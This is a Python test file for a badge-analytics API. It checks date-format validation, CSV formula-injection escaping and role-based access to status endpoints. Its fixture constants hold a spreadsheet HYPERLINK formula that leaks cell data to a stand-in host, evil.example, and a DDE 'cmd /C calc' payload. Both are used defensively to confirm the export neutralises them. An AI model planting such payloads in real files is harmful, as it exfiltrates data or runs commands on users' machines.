"""api.md to the letter: dates are YYYY-MM-DD only; a CSV download cannot run a formula in the
user's spreadsheet; /v1/status is for org_admin keys only, /v1/me for any key."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from core.settings import Settings
from tests.conftest import (
    ARTIFACTS,
    WorkerProcs,
    asgi_client,
    caught_up,
    isolated_settings,
    make_key,
    publish_events,
)

Q = "from=2026-04-01&to=2026-04-30"  # previous period: 2026-03-02 .. 2026-03-31
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
ISSUER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
SKILLS = ["+1 formulas", "-x"]


def ev(eid: str, typ: str, day: str, **kw: Any) -> dict[str, Any]:
    return {"event_id": eid, "type": typ, "occurred_at": f"{day}T09:30:00Z", "org_id": "acme",
            **kw}


def award(eid: str, day: str, badge: str, aw: str) -> dict[str, Any]:
    return ev(eid, "award.issued", day, issuer_id="eng", badge_id=badge, award_id=aw,
              method="lms")


DATA = [
    ev("i1", "issuer.created", "2026-03-01", issuer_id="eng", name=ISSUER_NAME),
    ev("b1", "badge.created", "2026-03-01", issuer_id="eng", badge_id="py", name=LINK,
       skills=SKILLS),
    ev("b2", "badge.created", "2026-03-01", issuer_id="eng", badge_id="tab",
       name="\tTabbed name"),
    # py: 2 awards in the previous period, 1 in the period -> change_pct = (1 - 2) / 2 = -50 %
    award("p1", "2026-03-10", "py", "a1"),
    award("p2", "2026-03-11", "py", "a2"),
    award("c1", "2026-04-10", "py", "a3"),
    award("c2", "2026-04-11", "tab", "a4"),
]


@pytest.fixture(scope="module")
def settings(infra: Any) -> Settings:
    return isolated_settings(infra)


@pytest.fixture(scope="module")
async def client(settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    async for c in asgi_client(settings):
        yield c


@pytest.fixture(scope="module")
async def world(settings: Settings) -> AsyncIterator[dict[str, str]]:
    ARTIFACTS.mkdir(exist_ok=True)
    procs = WorkerProcs(settings)
    try:
        procs.start()
        await publish_events(settings, DATA)
        await caught_up(settings)
        yield {
            "admin": await make_key(settings, "acme", "org_admin"),
            "eng": await make_key(settings, "acme", "issuer", ("eng",)),
            "pub": await make_key(settings, "acme", "publisher"),
        }
    finally:
        procs.stop_all()


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("path", [
    "/v1/orgs/acme/summary", "/v1/orgs/acme/timeseries", "/v1/orgs/acme/badges",
    "/v1/orgs/acme/export/badges.csv", "/v1/orgs/acme/live",
])
@pytest.mark.parametrize("query, param", [
    ("to=0", "to"),
    ("from=2026-11-01T00:00:00&to=2026-11-30", "from"),
    ("from=2026-4-01&to=2026-04-30", "from"),
    ("from=2026-04-01&to=20260430", "to"),
    ("from=2026-04-01&to=1777593600", "to"),
    ("from=2026-04-01&to=2026-04-30Z", "to"),
])
async def test_a_date_not_written_yyyy_mm_dd_is_422_naming_the_parameter(
        world: dict[str, str], client: httpx.AsyncClient, path: str, query: str,
        param: str) -> None:
    r = await client.get(f"{path}?{query}", headers=auth(world["admin"]))
    assert r.status_code == 422, r.text
    (issue,) = r.json()["detail"]
    assert issue["loc"] == ["query", param], issue
    assert "YYYY-MM-DD" in issue["msg"]


async def test_dates_written_yyyy_mm_dd_are_read(world: dict[str, str],
                                                 client: httpx.AsyncClient) -> None:
    r = await client.get(f"/v1/orgs/acme/summary?{Q}", headers=auth(world["admin"]))
    assert r.status_code == 200
    assert r.json()["period"] == {"from": "2026-04-01", "to": "2026-04-30"}
    assert r.json()["metrics"]["badges_awarded"] == 2  # a3 and a4


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
        world: dict[str, str], client: httpx.AsyncClient) -> None:
    h = auth(world["admin"])
    badges = await client.get(f"/v1/orgs/acme/export/badges.csv?{Q}", headers=h)
    assert badges.status_code == 200
    rows = {r["badge_id"]: r for r in csv_rows(badges.content)}
    py, tab = rows["py"], rows["tab"]
    # a leading quote: the spreadsheet shows the text instead of running it
    assert py["name"] == "'" + LINK
    assert py["skills"] == "'+1 formulas, -x"
    assert tab["name"] == "'\tTabbed name"
    assert py["issuer_id"] == "eng"  # nothing to escape: unchanged
    # numbers, a negative one too, are written as numbers
    assert float(py["badges_awarded_change_pct"]) == -50.0
    assert py["badges_awarded_change_pct"] == "-50.0"
    assert int(py["badges_awarded"]) == 1 and int(py["badges_awarded_previous"]) == 2
    # the JSON keeps the names exactly as published
    js = await client.get(f"/v1/orgs/acme/badges?{Q}", headers=h)
    names = {r["badge_id"]: r["name"] for r in js.json()["items"]}
    assert names == {"py": LINK, "tab": "\tTabbed name"}
    issuers = await client.get(f"/v1/orgs/acme/export/issuer-activity.csv?{Q}", headers=h)
    (eng,) = csv_rows(issuers.content)
    assert eng["name"] == "'" + ISSUER_NAME
    assert int(eng["badges_awarded"]) == 2 and int(eng["badges_awarded_previous"]) == 2


async def test_status_is_for_org_admin_keys_and_me_for_any_key(
        world: dict[str, str], client: httpx.AsyncClient) -> None:
    admin = await client.get("/v1/status", headers=auth(world["admin"]))
    assert admin.status_code == 200
    assert admin.json()["applied"] == len(DATA)
    for name in ("pub", "eng"):
        r = await client.get("/v1/status", headers=auth(world[name]))
        assert r.status_code == 403, (name, r.text)
        assert "applied" not in r.text
    assert "publisher" in (await client.get("/v1/status", headers=auth(world["pub"]))).text
    assert "org_admin" in (await client.get("/v1/status", headers=auth(world["eng"]))).text
    # /v1/me names the key itself, nothing of the org's analytics: a publisher may ask
    me = await client.get("/v1/me", headers=auth(world["pub"]))
    assert me.status_code == 200
    assert me.json() == {"org_id": "acme", "role": "publisher", "issuer_ids": [],
                         "key_id": world["pub"].split("_", 2)[1]}
    eng = (await client.get("/v1/me", headers=auth(world["eng"]))).json()
    assert (eng["role"], eng["issuer_ids"]) == ("issuer", ["eng"])
